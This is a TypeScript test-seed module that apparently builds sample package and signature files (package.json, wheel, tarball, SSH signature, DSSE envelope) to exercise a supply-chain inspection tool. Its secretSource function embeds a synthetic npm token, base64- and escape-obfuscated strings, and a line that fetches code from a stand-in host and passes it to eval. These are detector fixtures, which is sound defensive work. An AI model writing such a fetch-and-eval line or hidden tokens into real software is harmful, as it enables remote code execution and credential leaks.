/** Sound documents to break: what packages hold, and what people sign. */
import { createHash } from 'node:crypto';
import { encodeEnvelope, STATEMENT_PAYLOAD_TYPE } from '../../src/formats/dsse.ts';
import { encodeStatement, statementOf } from '../../src/formats/in-toto.ts';
import { formatSshSignature } from '../../src/formats/ssh-signature.ts';
import { crc32Base62 } from '../../src/inspect/secret-format/token-checksum.ts';
import { makeTarGz, makeZip } from '../../testdata/archives.ts';
import type { Seed } from './seeds.ts';

const PACKAGE_JSON = {
  name: '@aitbc/a',
  version: '1.2.3',
  main: 'index.js',
  bin: { a: 'cli.js' },
  exports: { '.': { import: './index.mjs', types: './index.d.ts' } },
  scripts: { postinstall: 'node install.js' },
  dependencies: { b: '^1.0.0', c: 'github:x/y' },
  files: ['*'],
};

const METADATA = [
  'Metadata-Version: 2.4',
  'Name: a',
  'Version: 1.0.0',
  'Requires-Dist: b (>=1.0); extra == "x"',
  'Requires-Python: >=3.9',
  'Classifier: License :: OSI Approved',
  '',
  'A text.',
].join('\n');

/** The documents. */
export async function makeDocumentSeeds(): Promise<readonly Seed[]> {
  const source = secretSource();
  const packageJson = JSON.stringify(PACKAGE_JSON, null, 2);
  const tarball = await makeTarGz([
    { path: 'package/package.json', content: packageJson },
    { path: 'package/index.js', content: source },
    { path: 'package/a.js.map', content: sourceMap(source) },
  ]);
  return [
    { name: 'package.json', kind: 'package.json', bytes: Buffer.from(packageJson) },
    { name: 'METADATA', kind: 'metadata', bytes: Buffer.from(METADATA) },
    { name: 'signature', kind: 'ssh signature', bytes: sshSignature() },
    { name: 'public key', kind: 'ssh key', bytes: Buffer.from(sshKeyLine()) },
    { name: 'envelope', kind: 'envelope', bytes: envelope() },
    { name: 'note', kind: 'note', bytes: note() },
    { name: 'a.js.map', kind: 'file', bytes: Buffer.from(sourceMap(source)) },
    { name: 'a.ipynb', kind: 'file', bytes: Buffer.from(notebook(source)) },
    { name: 'a.js', kind: 'file', bytes: Buffer.from(source) },
    { name: 'wide.txt', kind: 'file', bytes: Buffer.from(`\ufeff${source}`, 'utf16le') },
    { name: '.npmrc', kind: 'file', bytes: Buffer.from('//r.example.com/:_authToken=$TOKEN\n') },
    { name: 'a-1.2.3.tgz', kind: 'file', bytes: tarball },
    { name: 'a-1.0.0-py3-none-any.whl', kind: 'file', bytes: wheel() },
  ];
}

/** Code with encoded things in it, and a token put together here. */
function secretSource(): string {
  const body = 'k9'.repeat(15);
  const token = `npm_${body}${crc32Base62(body)}`;
  const encoded = Buffer.from(`token=${token}\n`).toString('base64');
  return [
    `const a = "${token}";`,
    `const b = atob("${encoded}");`,
    `const c = "\\u0065\\x76al", d = "%70%61ssword=${encodeURIComponent(encoded)}";`,
    `fetch("https://r.example.com/").then((r) => eval(r));`,
    `/* ${'-----BEGIN'} PUBLIC KEY----- */`,
  ].join('\n');
}

function sourceMap(source: string): string {
  return JSON.stringify({ version: 3, sources: ['a.ts'], sourcesContent: [source], mappings: '' });
}

function notebook(source: string): string {
  const cells = [{ cell_type: 'code', metadata: {}, outputs: [], source: source.split('\n') }];
  return JSON.stringify({ cells, metadata: {}, nbformat: 4, nbformat_minor: 5 });
}

function wheel(): Buffer {
  const digest = createHash('sha256').update('x = 1\n').digest('base64url');
  const record = `a.py,sha256=${digest},6\na-1.0.0.dist-info/METADATA,,\n`;
  return makeZip([
    { path: 'a.py', content: 'x = 1\n' },
    { path: 'a-1.0.0.dist-info/METADATA', content: METADATA, stored: true },
    { path: 'a-1.0.0.dist-info/WHEEL', content: 'Wheel-Version: 1.0\n', stored: true },
    { path: 'a-1.0.0.dist-info/RECORD', content: record, stored: true },
  ]);
}

function sshString(content: string | Uint8Array): Buffer {
  const bytes = Buffer.from(content as string);
  const length = Buffer.alloc(4);
  length.writeUInt32BE(bytes.length);
  return Buffer.concat([length, bytes]);
}

function sshKey(): Buffer {
  return Buffer.concat([sshString('ssh-ed25519'), sshString(Buffer.alloc(32, 7))]);
}

function sshKeyLine(): string {
  return `ssh-ed25519 ${sshKey().toString('base64')} alice@example.com`;
}

function sshSignature(): Buffer {
  const blob = Buffer.concat([
    Buffer.from('SSHSIG\0\0\0\x01', 'latin1'),
    sshString(sshKey()),
    sshString('approval@countersign'),
    sshString(''),
    sshString('sha512'),
    sshString(Buffer.concat([sshString('ssh-ed25519'), sshString(Buffer.alloc(64, 9))])),
  ]);
  return Buffer.from(formatSshSignature({ blob }));
}

function envelope(): Buffer {
  const statement = statementOf({
    subject: [{ name: 'manifest', digest: { sha256: 'a'.repeat(64) } }],
    predicateType: 'https://example.com/approval/v1',
    predicate: { approver: 'alice', at: '2026-03-02T12:00:00.000Z' },
  });
  const payload = encodeStatement(statement);
  const signature = { keyid: 'alice', sig: Buffer.alloc(80, 1) };
  return Buffer.from(encodeEnvelope({ payloadType: STATEMENT_PAYLOAD_TYPE, payload, signature }));
}

function note(): Buffer {
  const signature = Buffer.alloc(68, 3).toString('base64');
  const root = Buffer.alloc(32, 5).toString('base64');
  return Buffer.from(`log.example.com\n7\n${root}\n\n\u2014 log.example.com ${signature}\n`);
}
